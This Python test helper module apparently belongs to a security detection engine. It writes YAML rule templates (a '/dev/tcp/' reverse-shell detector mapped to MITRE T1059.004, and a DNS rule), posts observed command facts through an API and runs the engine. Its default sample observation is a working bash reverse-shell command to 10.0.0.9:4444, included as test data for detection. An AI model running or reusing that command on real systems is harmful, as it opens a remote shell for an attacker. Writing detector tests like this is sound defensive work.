"""Helpers of the engine tests: small rule directories written in tmp_path, observed facts, running the engine."""

from __future__ import annotations

import textwrap
from pathlib import Path

from stigmem import logtail
from stigmem.models import ConsumerCursor
from ttprules.store import sync_directory

SHELL = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
HOST = "stigmem://acme/host/web-1"
SENSOR = "stigmem://acme/agent/sensor"

REVERSE_SHELL = """
    rule_id: {rule_id}
    rule_version: {version}
    name: reverse_shell_{rule_id}
    applies_to: ["observed:command"]
    match:
      field: value.v
      regex: '/dev/tcp/'
    emits:
      - tactic: TA0002
        technique_id: T1059
        sub_technique_id: T1059.004
        confidence: {confidence}
    evidence_fields: [entity, value.v]
"""

DNS_ANYTHING = """
    rule_id: {rule_id}
    rule_version: 1
    name: any_dns_{rule_id}
    applies_to: ["observed:dns*"]
    match:
      field: value.v
      exists: true
    emits:
      - tactic: TA0011
        technique_id: T1071
        sub_technique_id: T1071.004
        confidence: 0.5
    evidence_fields: [value.v]
"""


def write_rule(directory: Path, template: str, rule_id: str, **values: object) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    values = {"version": 1, "confidence": 0.9, **values}
    path = directory / f"{rule_id}.yaml"
    path.write_text(textwrap.dedent(template.format(rule_id=rule_id, **values)).lstrip())
    return path


def load_rules(directory: Path, **rules: str) -> Path:
    """Write ``rule_id=template`` rules into ``directory`` and sync it."""
    for rule_id, template in rules.items():
        write_rule(directory, template, rule_id)
    sync_directory(directory)
    return directory


def run_engine() -> int:
    """Run the log consumers (the ttp engine among them) until they are caught up."""
    return logtail.run_consumers()


def engine_position() -> int:
    return (
        ConsumerCursor.objects.filter(consumer="ttp", log=ConsumerCursor.Log.FACTS)
        .values_list("position", flat=True)
        .first()
        or 0
    )


def observe(client, value: str = SHELL, relation: str = "observed:command", entity: str = HOST, **extra) -> dict:
    """Assert what a sensor saw on a host, through the API; returns the stored fact."""
    body = {
        "entity": entity,
        "relation": relation,
        "value": {"type": "string", "v": value},
        "source": SENSOR,
        "confidence": 0.8,
        "scope": "team",
        **extra,
    }
    response = client.post("/v1/facts", body, format="json")
    assert response.status_code == 201, response.content
    return response.json()
